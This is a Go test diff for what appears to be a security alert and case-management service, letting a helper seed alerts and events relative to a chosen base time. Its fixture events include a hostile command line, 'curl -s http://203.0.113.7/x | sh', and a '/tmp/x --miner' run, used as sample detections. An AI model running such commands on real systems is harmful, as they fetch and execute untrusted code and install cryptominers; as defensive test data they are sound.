@@ -58,6 +58,7 @@ type env struct {
 	svc   *cases.Service
 	audit *auditLog
 	now   time.Time
+	base  time.Time
 	// alert ids: high on web-1 (two events), medium on db-1, low on web-1
 	high, medium, low int64
 	events            []int64
@@ -67,21 +68,28 @@ var t0 = time.Date(2026, 11, 27, 9, 0, 0, 0, time.UTC)
 
 func newEnv(t *testing.T, opts ...func(*cases.Options)) *env {
 	t.Helper()
+	return newEnvAt(t, t0, opts...)
+}
+
+// newEnvAt seeds the alerts and events relative to base, which is also the
+// service's clock until a test moves e.now.
+func newEnvAt(t *testing.T, base time.Time, opts ...func(*cases.Options)) *env {
+	t.Helper()
 	ctx := context.Background()
 	db, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "vigil.db"), sqlite.Options{})
 	if err != nil {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() { db.Close() })
-	e := &env{t: t, db: db, audit: &auditLog{}, now: t0}
+	e := &env{t: t, db: db, audit: &auditLog{}, now: base, base: base}
 	e.events = e.insertEvents(
 		[]event.Field{{Name: "Image", Value: "/usr/bin/curl"}, {Name: "CommandLine", Value: "curl -s http://203.0.113.7/x | sh"}, {Name: "User", Value: "www-data"}},
 		[]event.Field{{Name: "Image", Value: "/tmp/x"}, {Name: "CommandLine", Value: "/tmp/x --miner"}, {Name: "User", Value: "www-data"}},
 	)
-	e.high = e.alert("Remote script piped to shell", "high", "web-1", t0.Add(-3*time.Hour), e.events,
+	e.high = e.alert("Remote script piped to shell", "high", "web-1", base.Add(-3*time.Hour), e.events,
 		[]string{"attack.execution", "attack.t1059.004", "attack.command-and-control", "attack.t1105", "detection.emerging-threats"})
-	e.medium = e.alert("Suspicious cron entry", "medium", "db-1", t0.Add(-2*time.Hour), nil, []string{"attack.persistence", "attack.t1053.003"})
-	e.low = e.alert("Outbound connection to rare port", "low", "web-1", t0.Add(-time.Hour), nil, nil)
+	e.medium = e.alert("Suspicious cron entry", "medium", "db-1", base.Add(-2*time.Hour), nil, []string{"attack.persistence", "attack.t1053.003"})
+	e.low = e.alert("Outbound connection to rare port", "low", "web-1", base.Add(-time.Hour), nil, nil)
 	o := cases.Options{Store: db, Alerts: db, Events: db, Audit: e.audit, Now: func() time.Time { return e.now }}
 	for _, f := range opts {
 		f(&o)
@@ -94,7 +102,7 @@ func (e *env) insertEvents(fields ...[]event.Field) []int64 {
 	e.t.Helper()
 	var st []eventstore.Stored
 	for i, fs := range fields {
-		ev := &event.Event{Time: t0.Add(-3*time.Hour + time.Duration(i)*time.Minute), Product: "linux",
+		ev := &event.Event{Time: e.base.Add(-3*time.Hour + time.Duration(i)*time.Minute), Product: "linux",
 			Categories: []string{"process_creation"}}
 		for _, f := range fs {
 			ev.Add(f.Name, f.Value)
